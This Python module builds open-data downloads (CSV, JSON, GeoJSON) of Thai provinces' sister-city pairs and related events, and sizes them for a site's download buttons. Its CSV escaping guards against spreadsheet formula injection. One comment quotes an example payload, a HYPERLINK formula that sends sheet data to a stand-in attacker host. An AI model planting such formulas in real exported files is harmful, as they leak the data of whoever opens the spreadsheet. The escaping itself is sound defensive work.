"""Machine-readable downloads: /data/pairs.csv, /data/pairs.json, /data/pairs.geojson.

One flat row per pair (`rows`) feeds all three, so they always agree; the data-dictionary
page (content/*/data.md) describes the same fields in the same order. The CSV leaves out
`signed_date` (CSV_FIELDS): a spreadsheet turns "1989-08" into a date, so the CSV gives the
year and the month as two numbers (`signed_year`, `signed_month`, in every format).

`downloads` lists the files with their formats and sizes for the open data page's buttons,
worked out when the page is built (each file is made once per process: `made`).
"""
from __future__ import annotations

import csv
import io
import itertools
import json
from dataclasses import dataclass
from typing import Callable, Iterable, Iterator

from . import reuse
from .model import Registry

FIELDS = (
    "id", "status", "stage", "year_be", "year_ce", "list_no", "signed_date", "signed_year", "signed_month",
    "province_en", "province_th", "province_slug", "region",
    "partner_name_en", "partner_name_th", "partner_name_native", "partner_lang", "partner_level",
    "partner_parent_en", "partner_parent_th", "country_code", "country_en", "country_th",
    "partner_lat", "partner_lon", "alt_names", "source_row", "source_line", "notes_en", "notes_th",
    "doubtful", "doubt_en", "doubt_th",   # a note states a doubt (notes with doubt: true); those notes
)
CSV_FIELDS = tuple(f for f in FIELDS if f != "signed_date")
LICENCE = "CC BY 4.0 (compilation); the source documents are Thai government publications"


def rows(registry: Registry) -> list[dict]:
    """One row per pair, in the list's order (made once per registry: all three files use them)."""
    if _rows[0] is not registry:
        made = _rows_of(registry)
        _rows[:] = [registry, made, []]
    return _rows[1]


_rows: list = [None, [], []]   # [the registry, its rows, each row's repr (when remembering: _encoded_rows)]


def _rows_of(registry: Registry) -> list[dict]:
    out = []
    for p in sorted(registry.pairs, key=lambda p: p.list_no):
        out.append({
            "id": p.id, "status": p.status, "stage": p.stage, "year_be": p.year_be, "year_ce": p.year_ce,
            "list_no": p.list_no,
            "signed_date": f"{p.signed_month[0]:04d}-{p.signed_month[1]:02d}" if p.signed_month else None,
            "signed_year": p.signed_month[0] if p.signed_month else None,
            "signed_month": p.signed_month[1] if p.signed_month else None,
            "province_en": p.province.name_en, "province_th": p.province.name_th, "province_slug": p.province.slug,
            "region": p.province.region.key,
            "partner_name_en": p.partner.name_en, "partner_name_th": p.partner.name_th,
            "partner_name_native": p.partner.name_native, "partner_lang": p.partner.lang,
            "partner_level": p.partner.level, "partner_parent_en": p.partner.parent_en,
            "partner_parent_th": p.partner.parent_th, "country_code": p.partner.country.code,
            "country_en": p.partner.country.name_en, "country_th": p.partner.country.name_th,
            "partner_lat": p.partner.lat, "partner_lon": p.partner.lon,
            "alt_names": list(p.partner.alt_names), "source_row": p.source.row, "source_line": p.source.line,
            "notes_en": [n.en for n in p.notes], "notes_th": [n.th for n in p.notes],
            "doubtful": p.doubtful,
            "doubt_en": [n.en for n in p.doubt_notes], "doubt_th": [n.th for n in p.doubt_notes],
        })
    return out


# A spreadsheet program runs a cell that begins with one of these as a formula
# (=HYPERLINK("http://evil.example/?"&A1) sends the sheet away): OWASP's "CSV injection".
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value) -> str | int | float:
    """A value as a CSV cell: lists joined with ' | ', None empty, and text that a spreadsheet
    would take for a formula prefixed with a single quote, as OWASP recommends (the quote shows
    in the cell; pairs.json and pairs.geojson keep the text as it is). Numbers are written as
    numbers: a negative longitude is not a formula."""
    if value is None:
        return ""
    if isinstance(value, bool):   # (before numbers: a bool is an int) true/false, as in pairs.json
        return "true" if value else "false"
    if isinstance(value, list):
        value = " | ".join(value)
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def to_csv(registry: Registry) -> bytes:
    """UTF-8 with a byte-order mark, so spreadsheet programs read the Thai correctly;
    list fields are joined with ' | '; text is never a formula (csv_cell)."""
    buf = io.StringIO()
    writer = csv.DictWriter(buf, fieldnames=CSV_FIELDS, lineterminator="\r\n")
    writer.writeheader()
    return _utf8(itertools.chain(["\ufeff", buf.getvalue()], _encoded_rows("csv", registry)))


def _csv_line(row: dict) -> str:
    buf = io.StringIO()
    csv.DictWriter(buf, fieldnames=CSV_FIELDS, lineterminator="\r\n").writerow({k: csv_cell(row[k]) for k in CSV_FIELDS})
    return buf.getvalue()


def _geojson_feature(row: dict) -> str:
    props = {k: v for k, v in row.items() if k not in ("partner_lat", "partner_lon")}
    return json.dumps({"type": "Feature", "id": row["id"],
                       "geometry": {"type": "Point", "coordinates": [row["partner_lon"], row["partner_lat"]]},
                       "properties": props}, ensure_ascii=False)


_ENCODERS = {"csv": _csv_line, "json": lambda row: json.dumps(row, ensure_ascii=False), "geojson": _geojson_feature}
# Each pair's row as each file writes it, kept for the next build by a process that rebuilds (the
# preview server, portal/reuse.py): after one note's edit it encodes that row again, not all of
# them. Keyed by the row's repr, which tells 14 from 14.0 and True from 1 as the files do.
_lines: dict[tuple[str, str], str] = {}


def _encoded_rows(form: str, registry: Registry) -> Iterable[str]:
    """Every row of the registry as `form` writes it (encoded as they are read, unless kept)."""
    made = rows(registry)
    if not reuse.kept():
        _lines.clear()
        return map(_ENCODERS[form], made)
    if len(_rows[2]) != len(made):
        _rows[2] = [repr(row) for row in made]
    if len(_lines) > 6 * len(made) + 1000:   # (rows of earlier builds)
        _lines.clear()
    out = []
    for row, key in zip(made, _rows[2]):
        line = _lines.get((form, key))
        if line is None:
            line = _lines[(form, key)] = _ENCODERS[form](row)
        out.append(line)
    return out


def to_json(registry: Registry, licensor: dict | None = None) -> bytes:
    doc = {
        "as_of": registry.as_of.isoformat(),
        "licence": LICENCE,
        "licensor": licensor or None,   # data/site.yaml's licensor (issue 20); null in a preview copy
        "source": {k: {"title_th": s.title_th, "title_en": s.title_en, "ref_th": s.ref_th, "ref_en": s.ref_en,
                       "date": s.date.isoformat()} for k, s in registry.sources.items()},
        "stated_totals": {k: {"pairs": v.pairs, "provinces": v.provinces} for k, v in registry.stated.items()},
        "pairs": _Encoded("json", registry),
        "provinces": [{"name_en": p.name_en, "name_th": p.name_th, "slug": p.slug, "region": p.region.key,
                       "capital_en": p.capital_en, "capital_th": p.capital_th, "lat": p.lat, "lon": p.lon}
                      for p in registry.provinces],
        "countries": [{"code": c.code, "slug": c.slug, "name_en": c.name_en, "name_th": c.name_th,
                       "formal_en": c.formal_en, "formal_th": c.formal_th, "world_region": c.world_region}
                      for c in registry.countries],
    }
    return _dumps(doc)


def _dumps(doc: dict) -> bytes:
    """JSON with each key of the top and each record of its lists on a line of its own, readable
    in a text editor. (json's indent= uses its pure-Python encoder: ~1 s at 10,000 pairs.)"""
    def parts() -> Iterator[str]:
        yield "{\n"
        for i, (k, v) in enumerate(doc.items()):
            yield (",\n" if i else "") + f" {json.dumps(k)}: "
            if isinstance(v, (_Encoded, list)):
                lines = _encoded_rows(v.form, v.registry) if isinstance(v, _Encoded) else \
                    [json.dumps(x, ensure_ascii=False) for x in v]
                yield "[\n"
                yield from _separated(("  " + line for line in lines), ",\n")
                yield "\n ]"
            else:
                yield json.dumps(v, ensure_ascii=False)
        yield "\n}\n"
    return _utf8(parts())


def _separated(items: Iterable[str], separator: str) -> Iterator[str]:
    for i, item in enumerate(items):
        if i:
            yield separator
        yield item


def _utf8(parts: Iterable[str]) -> bytes:
    """The parts as one UTF-8 file, encoded one by one: at 10,000 pairs a download is 20 MB, and
    joining its text before encoding it held three copies of it at once (BENCHMARKS.md)."""
    return b"".join([part.encode("utf-8") for part in parts])


@dataclass(frozen=True)
class _Encoded:
    """The registry's rows, which _dumps writes as _encoded_rows gives them."""
    form: str
    registry: Registry


def to_geojson(registry: Registry) -> bytes:
    return _utf8(itertools.chain(['{"type": "FeatureCollection", "features": ['],
                                 _separated(_encoded_rows("geojson", registry), ", "), ["]}"]))


# After the list (issue 20): events and relations reported since, as files of their own (never in pairs.*).
EVENT_FIELDS = ("id", "relation", "relation_kind", "kind", "date", "province_en", "province_th", "partner_name_en",
                "partner_name_th", "country_code", "summary_en", "summary_th", "source_title", "source_about", "source_publisher",
                "source_published", "source_url", "source_quote", "source_quote_lang", "note_en", "note_th")


def event_rows(registry: Registry) -> list[dict]:
    out = []
    for e in sorted(registry.events, key=lambda e: (e.relation_id, e.date, e.file_line)):
        s = e.source
        out.append({"id": e.id, "relation": e.relation_id, "relation_kind": e.relation_kind, "kind": e.kind,
                    "date": e.date.iso, "province_en": e.province.name_en, "province_th": e.province.name_th,
                    "partner_name_en": e.partner.name_en, "partner_name_th": e.partner.name_th,
                    "country_code": e.partner.country.code, "summary_en": e.summary.en, "summary_th": e.summary.th,
                    "source_title": s.title, "source_about": s.about, "source_publisher": s.publisher,
                    "source_published": s.published.iso if s.published else None, "source_url": s.url,
                    "source_quote": s.quote, "source_quote_lang": s.quote_lang,
                    "note_en": e.note.en if e.note else None, "note_th": e.note.th if e.note else None})
    return out


def _source(s) -> dict:
    return {"title": s.title, "about": s.about, "publisher": s.publisher, "published": s.published.iso if s.published else None,
            "url": s.url, "quote": s.quote, "quote_lang": s.quote_lang}


def events_json(registry: Registry) -> bytes:
    return _dumps({"list_as_of": registry.as_of.isoformat(), "licence": LICENCE,
                   "note": "Events recorded on this portal, each from a cited public report; "
                           "a missing event is not proof that nothing happened.",
                   "events": event_rows(registry)})


def events_csv(registry: Registry) -> bytes:
    buf = io.StringIO()
    writer = csv.DictWriter(buf, fieldnames=EVENT_FIELDS, lineterminator="\r\n")
    writer.writeheader()
    for row in event_rows(registry):
        writer.writerow({k: csv_cell(v) for k, v in row.items()})
    return ("\ufeff" + buf.getvalue()).encode("utf-8")


def later_relations_json(registry: Registry) -> bytes:
    rows = []
    for rel in registry.later_relations:
        p = rel.partner
        rows.append({"id": rel.id, "province_en": rel.province.name_en, "province_th": rel.province.name_th,
                     "party_en": rel.party_en, "party_th": rel.party_th, "level": rel.level, "status": rel.status,
                     "signed_date": rel.signed_date.iso if rel.signed_date else None,
                     "partner_name_en": p.name_en, "partner_name_th": p.name_th, "partner_name_native": p.name_native,
                     "partner_lang": p.lang, "partner_level": p.level, "country_code": p.country.code,
                     "partner_lat": p.lat, "partner_lon": p.lon, "source": _source(rel.source),
                     "notes_en": [n.en for n in rel.notes], "notes_th": [n.th for n in rel.notes]})
    return _dumps({"list_as_of": registry.as_of.isoformat(), "licence": LICENCE,
                   "note": "Relations a public report says were proposed, approved or signed after the list; "
                           "not in the ministry's list and not counted in its totals.",
                   "later_relations": rows})


# file → (format's name on the button, the function that makes it from (registry, licensor)).
# The open data page's buttons offer the pairs' files (PAIR_FILES); the events' files are listed on it too.
PAIR_FILES = {"data/pairs.csv": ("CSV", lambda r, lic: to_csv(r)), "data/pairs.json": ("JSON", to_json),
              "data/pairs.geojson": ("GeoJSON", lambda r, lic: to_geojson(r))}
FILES = {**PAIR_FILES,
         "data/events.json": ("JSON", lambda r, lic: events_json(r)), "data/events.csv": ("CSV", lambda r, lic: events_csv(r)),
         "data/later_relations.json": ("JSON", lambda r, lic: later_relations_json(r))}
# What each file reads (names of site.dependency_digests): a rebuild makes it again only when one changed.
PAIRS_READ = ("pairs", "provinces", "countries", "aliases", "other_relations")
EVENTS_READ = ("events", "pairs:listing", "provinces", "countries", "other_relations")
FILE_DEPS = {**dict.fromkeys(PAIR_FILES, PAIRS_READ),
             **dict.fromkeys(("data/events.json", "data/events.csv", "data/later_relations.json"), EVENTS_READ)}
assert FILE_DEPS.keys() == FILES.keys(), "every file says what it reads"
# The files whose bytes name data/site.yaml's licensor: the others are the same whoever publishes.
READS_LICENSOR = {"data/pairs.json"}
# Each file's size as last made, for the open data page's buttons: file → (the registry and
# licensor it was made of, its size). Only the size is kept: the bytes are written and let go of
# (at 10,000 pairs the six files are 70 MB).
_sizes: dict[str, tuple[Registry, dict | None, int]] = {}


def made(registry: Registry, name: str, licensor: dict | None = None) -> bytes:
    """The file `name` for this registry."""
    data = FILES[name][1](registry, licensor)
    _sizes[name] = (registry, _licensor_read(name, licensor), len(data))
    return data


def size_of(registry: Registry, name: str, licensor: dict | None = None) -> int:
    """The size of the file `name` for this registry: as made for the site (the tasks making the
    files come before the pages), or made now (another process made it)."""
    known = _sizes.get(name)
    if known and known[0] is registry and known[1] == _licensor_read(name, licensor):
        return known[2]
    return len(made(registry, name, licensor))


def _licensor_read(name: str, licensor: dict | None) -> dict | None:
    """What of `licensor` the file `name` is made of (the since page asks the events' files' sizes
    without one, the build made them with the publish build's: the same files)."""
    return licensor if name in READS_LICENSOR else None


def file_makers(model) -> dict[str, Callable[[], bytes]]:
    """Each download and the function that makes it (the build runs them as separate tasks)."""
    r = model.registry
    lic = licensor(model)
    return {name: (lambda name=name: made(r, name, lic)) for name in FILES}


def licensor(model) -> dict | None:
    """data/site.yaml's licensor of the open data (issue 20); None in a preview copy."""
    pub = model.site.get("publisher")
    return {"en": pub.licensor_en, "th": pub.licensor_th} if pub and pub.licensor_en else None


def size_kb(n_bytes: int) -> int:
    """A file's size in KB (1,024 bytes) as the buttons say it, never 0."""
    return max(1, round(n_bytes / 1024))


def downloads(registry: Registry, lic: dict | None = None) -> list[dict]:
    """[{url, format, kb}] of every download of the pairs, in the order of the buttons."""
    return [{"url": "/" + name, "format": fmt, "kb": size_kb(size_of(registry, name, lic))}
            for name, (fmt, _make) in PAIR_FILES.items()]


# The events' files (issue 20) as the since page and the open data page offer them: what each holds.
EVENT_FILES = (("data/events.json", "events"), ("data/events.csv", "events"), ("data/later_relations.json", "later"))


def event_downloads(registry: Registry) -> list[dict]:
    """[{url, format, kb, holds}] of the events' and later relations' files, as labelled buttons."""
    return [{"url": "/" + name, "format": FILES[name][0], "kb": size_kb(size_of(registry, name)), "holds": holds}
            for name, holds in EVENT_FILES]


def page_reads(document: str) -> tuple[str, ...]:
    """What a document's page reads through its buttons (each says its file's size, so it is made
    again when the file is): the open data page's pair downloads (`context`)."""
    return PAIRS_READ if document == "data" else ()


def shows_sizes(page) -> bool:
    """Whether a page's buttons say the downloads' sizes (`downloads`, `event_downloads`): the
    open data page and the since page. The build renders them where the downloads are made."""
    return page.kind == "since" or (page.kind == "document" and page.context["doc"].name == "data")


def context(model) -> dict:
    """The open data page's buttons: its URL in each language → a function giving {downloads}."""
    from . import urls
    return {urls.document(lang, "data"): (lambda: {"downloads": downloads(model.registry, licensor(model))})
            for lang in urls.LANGS}

